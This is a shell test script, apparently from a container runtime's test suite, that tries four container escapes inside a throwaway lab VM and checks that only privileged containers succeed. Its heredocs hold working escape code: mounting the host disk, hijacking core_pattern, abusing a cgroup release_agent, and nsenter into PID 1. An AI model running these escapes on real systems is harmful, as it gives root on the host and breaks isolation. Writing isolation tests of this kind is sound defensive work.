#!/bin/sh
# lab-escapes.sh BARCO ROOTFS — four real container escapes, each tried from a default and
# from a --privileged barco container, inside the throwaway lab VM only (`make lab-vm`):
#   disk           mount the VM's disk (/dev/vda) and read the canary file on it
#   core_pattern   point /proc/sys/kernel/core_pattern at a script, crash: the kernel runs
#                  it as root on the VM host
#   release_agent  mount a cgroup v1 hierarchy, set release_agent, empty a cgroup: the
#                  kernel runs the agent as root on the VM host
#   setns          nsenter into /proc/1/ns (privileged adds --pid host, as the k3s setup
#                  does) and read a file that exists only in the VM host's mount namespace
# The VM side checks each escape on its own (the canary, a proof file written by the host-
# side script, the secret), prints an attempt x mode table, and exits 1 if a default
# container escaped or a privileged one did not.
# These attempts change the machine (core_pattern, a new cgroup hierarchy, a mounted disk):
# the script refuses to run unless the kernel command line carries the lab VM's marker.
set -u

MARKER=barco.lab=escape-demo
if ! grep -qw "$MARKER" /proc/cmdline; then
    echo "lab-escapes: refusing to run: no $MARKER on the kernel command line, so this is" >&2
    echo "not barco's throwaway lab VM. Run it with: make lab-vm" >&2
    exit 2
fi
[ $# -eq 2 ] || { echo "usage: lab-escapes.sh BARCO ROOTFS" >&2; exit 2; }
BARCO=$(realpath "$1")
LAB=/tmp/lab
ROOT=$LAB/rootfs # the container's rootfs as the VM host sees it

mkdir -p $LAB/proof
cp -a "$2" $ROOT
mkdir -p $ROOT/lab

# What only the VM host can see: a secret in its own mount namespace, and a canary on its
# disk.
SECRET="secret-$(cat /proc/sys/kernel/random/uuid)"
echo "$SECRET" >$LAB/secret
CANARY="canary-$(cat /proc/sys/kernel/random/uuid)"
modprobe virtio_blk 2>/dev/null
[ -b /dev/vda ] || { echo "lab-escapes: no /dev/vda (run-in-vm.sh needs VM_DISK_MB)" >&2; exit 2; }
mke2fs -q /dev/vda >/dev/null 2>&1
mkdir -p /mnt/vmdisk
mount -t ext2 /dev/vda /mnt/vmdisk && echo "$CANARY" >/mnt/vmdisk/canary && umount /mnt/vmdisk
ORIGINAL_CORE_PATTERN=$(cat /proc/sys/kernel/core_pattern)
# A cgroup v1 hierarchy, as on a hybrid host (the VM boots pure v2). Only the initial cgroup
# namespace may create one; a container may mount an existing one, and sees its root.
mkdir -p /run/lab-cgroup-v1
mount -t cgroup -o none,name=barcolab cgroup /run/lab-cgroup-v1

# Run on the VM host when an escape works: the kernel starts them as root, outside every
# container namespace (release_agent takes a bare path, so one script per escape).
for name in core_pattern release_agent; do
    cat >$ROOT/lab/agent-$name.sh <<EOF
#!/bin/sh
echo "uid=\$(id -u) hostname=\$(hostname)" >$LAB/proof/$name
EOF
    chmod 755 $ROOT/lab/agent-$name.sh
done

# The attempts, as a container process runs them. LAB_ROOT is where the rootfs lives on the
# host: a real attacker reads it off /proc/self/mountinfo or an overlay's upperdir.
cat >$ROOT/lab/disk.sh <<'EOF'
[ -b /dev/vda ] || mknod /dev/vda b $(tr : ' ' </sys/class/block/vda/dev) || exit 1
mkdir -p /mnt/disk && mount -t ext2 -o ro /dev/vda /mnt/disk && cat /mnt/disk/canary
EOF
cat >$ROOT/lab/core_pattern.sh <<'EOF'
echo "|$LAB_ROOT/lab/agent-core_pattern.sh" >/proc/sys/kernel/core_pattern || exit 1
sh -c 'kill -SEGV $$'
EOF
cat >$ROOT/lab/release_agent.sh <<'EOF'
mkdir -p /tmp/cg && mount -t cgroup -o none,name=barcolab cgroup /tmp/cg || exit 1
mkdir -p /tmp/cg/x && echo 1 >/tmp/cg/x/notify_on_release || exit 1
echo "$LAB_ROOT/lab/agent-release_agent.sh" >/tmp/cg/release_agent || exit 1
sh -c 'echo $$ >/tmp/cg/x/cgroup.procs'
EOF
cat >$ROOT/lab/setns.sh <<'EOF'
nsenter -t 1 -m -u -i -n -p -- cat /tmp/lab/secret
EOF

# escaped / blocked, judged on the VM host's side only.
judge() { # attempt output-file
    case $1 in
    disk) grep -q "$CANARY" "$2" ;;
    setns) grep -q "$SECRET" "$2" ;;
    *)
        i=0
        while [ $i -lt 50 ] && [ ! -s $LAB/proof/$1 ]; do sleep 0.1; i=$((i + 1)); done
        [ -s $LAB/proof/$1 ]
        ;;
    esac
}

attempt() { # attempt mode barco-flags...
    name=$1 mode=$2
    shift 2
    rm -f $LAB/proof/$name
    out=$LAB/$name.$mode.out
    "$BARCO" run --rootfs $ROOT -e LAB_ROOT=$ROOT "$@" -- sh /lab/$name.sh >$out 2>&1
    rc=$?
    if judge $name $out; then verdict=ESCAPED; else verdict=blocked; fi
    echo "[$mode] $name: barco run${*:+ $*} -- sh /lab/$name.sh (exit $rc) -> $verdict"
    sed 's/^/    /' $out
    [ -s $LAB/proof/$name ] && sed 's/^/    host-side proof: /' $LAB/proof/$name
    echo "$name $mode $verdict" >>$LAB/results
    echo "$ORIGINAL_CORE_PATTERN" >/proc/sys/kernel/core_pattern
}

: >$LAB/results
for name in disk core_pattern release_agent setns; do
    attempt $name default
    if [ $name = setns ]; then
        attempt $name privileged --privileged --pid host
    else
        attempt $name privileged --privileged
    fi
done

echo
printf '%-16s %-10s %-10s\n' attempt default privileged
failed=0
for name in disk core_pattern release_agent setns; do
    d=$(awk -v n=$name '$1 == n && $2 == "default" {print $3}' $LAB/results)
    p=$(awk -v n=$name '$1 == n && $2 == "privileged" {print $3}' $LAB/results)
    printf '%-16s %-10s %-10s\n' $name "$d" "$p"
    [ "$d" = blocked ] || failed=1
    [ "$p" = ESCAPED ] || failed=1
done
escaped=$(grep -c ' privileged ESCAPED' $LAB/results)
leaked=$(grep -c ' default ESCAPED' $LAB/results)
echo "lab-escapes: $escaped of 4 escapes from --privileged, $leaked of 4 from default"
exit $failed
